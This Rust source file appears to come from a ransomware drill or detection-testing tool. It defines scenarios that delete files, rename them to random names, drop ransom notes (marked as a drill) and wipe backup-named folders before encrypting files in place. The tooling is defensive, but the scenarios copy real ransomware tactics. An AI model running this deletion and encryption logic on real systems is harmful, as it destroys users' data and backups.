//! Names that go, names that become meaningless, and notes that ask for money.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use rustix::fs::RenameFlags;
use rustix::io::Errno;

use super::Signal::{Backups, Breadth, Deletions, Entropy, FileType, Notes, Pace, Renames};
use super::{Order, Plan, Scenario, class_of, content, count};
use crate::report::{Acted, Failure, How};
use crate::run::{Run, Victim};
use crate::ways::Harm;

pub(super) const SCENARIOS: &[Scenario] = &[
    Scenario::new(
        "delete-all-with-notes",
        "deletes everything and leaves a note in each folder",
        &[Deletions, Notes, Pace],
        Plan::Whole(delete_all),
    ),
    Scenario::new(
        "rename-meaningless",
        "gives each file a name of random letters without an ending, and changes nothing else",
        &[Renames, Breadth, Pace],
        Plan::Each(Order::Walk, rename),
    )
    .takes(Harm::Names),
    Scenario::new(
        "notes-first",
        "leaves a note in each folder, then encrypts each file where it lies",
        &[Notes, Entropy, FileType, Pace],
        Plan::Whole(notes_first),
    ),
    Scenario::new(
        "backups-first",
        "deletes what lies in folders named like backups, then encrypts the rest where it lies",
        &[Backups, Deletions, Entropy, FileType],
        Plan::Whole(backups_first),
    ),
];

fn delete(run: &Run<'_>, victim: &Victim) -> Result<Acted, Failure> {
    let before = blake3::hash(&run.read(&victim.path)?);
    run.unlink(&victim.path)?;
    Ok(Acted {
        how: How::Delete,
        to: None,
        before: Some(before),
        after: None,
    })
}

fn delete_all(run: &Run<'_>) -> Result<(), Failure> {
    for folder in folders(run) {
        let there = |victim: &&Victim| victim.path.parent() == Some(&folder);
        for victim in run.victims.iter().filter(there) {
            count(run, victim, delete(run, victim));
        }
        leave_note(run, &folder);
    }
    Ok(())
}

fn rename(run: &Run<'_>, victim: &Victim) -> Result<Acted, Failure> {
    let mut noise = run.noise(victim);
    let name = format!("{:016x}{:04x}", noise.next(), victim.number);
    let to = victim.path.with_file_name(name);
    let content = blake3::hash(&run.read(&victim.path)?);
    run.rename(&victim.path, &to, RenameFlags::NOREPLACE)?;
    Ok(Acted {
        how: How::Rename,
        to: Some(to),
        before: Some(content),
        after: Some(content),
    })
}

fn notes_first(run: &Run<'_>) -> Result<(), Failure> {
    for folder in folders(run) {
        leave_note(run, &folder);
    }
    for victim in &run.victims {
        count(run, victim, content::whole(run, victim));
    }
    Ok(())
}

fn backups_first(run: &Run<'_>) -> Result<(), Failure> {
    let (backups, others): (Vec<_>, Vec<_>) = run
        .victims
        .iter()
        .partition(|victim| is_backup(&victim.path));
    if backups.is_empty() {
        run.report
            .failed("refused: no folder is named like backups", 1);
    }
    for victim in &backups {
        count(run, victim, delete(run, victim));
    }
    let folders: BTreeSet<&Path> = backups
        .iter()
        .filter_map(|victim| victim.path.parent())
        .collect();
    for folder in folders.into_iter().rev() {
        match run.remove_folder(folder) {
            Ok(()) | Err(Failure::System(Errno::NOTEMPTY)) => {}
            Err(failure) => run.report.failed(&failure.name(), 1),
        }
    }
    for victim in others {
        count(run, victim, content::whole(run, victim));
    }
    Ok(())
}

fn is_backup(path: &Path) -> bool {
    let folders = path.parent().into_iter().flat_map(Path::components);
    folders
        .map(|folder| folder.as_os_str().to_string_lossy().to_lowercase())
        .any(|name| BACKUPS.iter().any(|word| name.contains(word)))
}

/// The folders that hold victims.
fn folders(run: &Run<'_>) -> BTreeSet<PathBuf> {
    let parents = run.victims.iter().filter_map(|victim| victim.path.parent());
    parents.map(Path::to_owned).collect()
}

/// A note is told, but no victim: it does not count as a file touched.
fn leave_note(run: &Run<'_>, folder: &Path) {
    let path = folder.join(NOTE_NAME);
    match run.create(&path, NOTE.as_bytes()) {
        Ok(()) => {
            let after = Some(blake3::hash(NOTE.as_bytes()));
            let acted = Acted {
                how: How::Create,
                to: None,
                before: None,
                after,
            };
            run.report.acted(&path, class_of(&path), &acted);
        }
        Err(failure) => run.report.failed(&failure.name(), 1),
    }
}

const BACKUPS: &[&str] = &["sauvegarde", "backup", "snapshot", "archive"];
const NOTE_NAME: &str = "LISEZ-MOI POUR RECUPERER VOS FICHIERS.txt";
const NOTE: &str = "EXERCICE DE HYGIE : personne ne vous demande d'argent.\r\n\r\n\
Tous vos fichiers ont été chiffrés. Pour obtenir la clé de déchiffrement, payez 0,0 bitcoin \
et écrivez à recuperation@rancon.example avec votre identifiant. N'éteignez pas votre ordinateur.\r\n\
YOUR FILES ARE ENCRYPTED (this is a drill; nothing is asked of you).\r\n";
